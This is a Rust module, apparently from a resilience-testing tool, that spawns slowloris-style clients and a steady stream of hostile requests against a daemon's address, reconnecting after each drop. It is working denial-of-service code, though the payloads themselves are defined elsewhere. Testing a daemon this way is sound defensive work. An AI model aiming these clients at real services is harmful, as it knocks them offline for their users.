//! Clients that send what [`crate::attack`] lists, until they are told to stop.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::Arguments;
use crate::attack::{self, Attack};

/// Pause between two bytes of a slow client.
const DRIBBLE: Duration = Duration::from_millis(500);
/// Time over which the slow ones come: all at once would be another attack, and its end a relief.
const RAMP: Duration = Duration::from_secs(10);
/// How long a hostile client waits for its answer.
const ANSWER: Duration = Duration::from_secs(5);

/// A running attack.
pub(crate) struct Attackers {
    tasks: JoinSet<()>,
    connections: Arc<AtomicU64>,
}

impl Attackers {
    fn new() -> Self {
        Self { tasks: JoinSet::new(), connections: Arc::default() }
    }

    /// Ends it; gives how many connections it has made.
    pub(crate) async fn stop(mut self) -> u64 {
        self.tasks.shutdown().await;
        self.connections.load(Ordering::Relaxed)
    }
}

/// As many slow clients of each kind as the arguments say, each back as soon as it is thrown out.
pub(crate) fn slow(arguments: &Arguments) -> Attackers {
    let mut attackers = Attackers::new();
    let attacks = attack::slow(arguments);
    let total = attacks.len() as u32 * arguments.slow;
    for (kind, attack) in attacks.into_iter().enumerate() {
        for number in 0..arguments.slow {
            let turn = RAMP * (number * (total / arguments.slow) + kind as u32) / total;
            let (attack, address) = (attack.clone(), arguments.address.clone());
            let connections = attackers.connections.clone();
            attackers.tasks.spawn(async move {
                tokio::time::sleep(turn).await;
                loop {
                    connections.fetch_add(1, Ordering::Relaxed);
                    // However it ends, another follows.
                    let _ = hold(&address, &attack).await;
                    tokio::time::sleep(DRIBBLE).await;
                }
            });
        }
    }
    attackers
}

/// Keeps a connection as long as it is let, and reads nothing.
async fn hold(address: &str, attack: &Attack) -> std::io::Result<()> {
    let mut socket = TcpStream::connect(address).await?;
    socket.set_zero_linger()?;
    socket.write_all(&attack.first).await?;
    for byte in attack.dribble.iter().cycle() {
        tokio::time::sleep(DRIBBLE).await;
        socket.write_all(&[*byte]).await?;
    }
    // The end is noticed without reading what came before it.
    loop {
        tokio::time::sleep(DRIBBLE).await;
        socket.ready(tokio::io::Interest::READABLE).await.map(|ready| ready.is_read_closed()).and_then(
            |closed| if closed { Err(std::io::ErrorKind::ConnectionReset.into()) } else { Ok(()) },
        )?;
    }
}

/// As many hostile clients a second as the arguments say, of one kind after the other.
pub(crate) fn bad(arguments: &Arguments) -> Attackers {
    let mut attackers = Attackers::new();
    let (attacks, address) = (attack::bad(arguments), arguments.address.clone());
    let pause = Duration::from_secs(1) / arguments.bad_per_second;
    let connections = attackers.connections.clone();
    attackers.tasks.spawn(async move {
        let mut ticks = tokio::time::interval(pause);
        let mut sending = JoinSet::new();
        for attack in attacks.into_iter().cycle() {
            ticks.tick().await;
            let address = address.clone();
            connections.fetch_add(1, Ordering::Relaxed);
            sending.spawn(async move { tokio::time::timeout(ANSWER, ask(&address, &attack)).await });
            while sending.try_join_next().is_some() {}
        }
    });
    attackers
}

/// Sends, and reads until the daemon closes.
async fn ask(address: &str, attack: &Attack) -> std::io::Result<()> {
    let mut socket = TcpStream::connect(address).await?;
    socket.set_zero_linger()?;
    socket.write_all(&attack.first).await?;
    let mut answer = [0; 4096];
    while socket.read(&mut answer).await? > 0 {}
    Ok(())
}
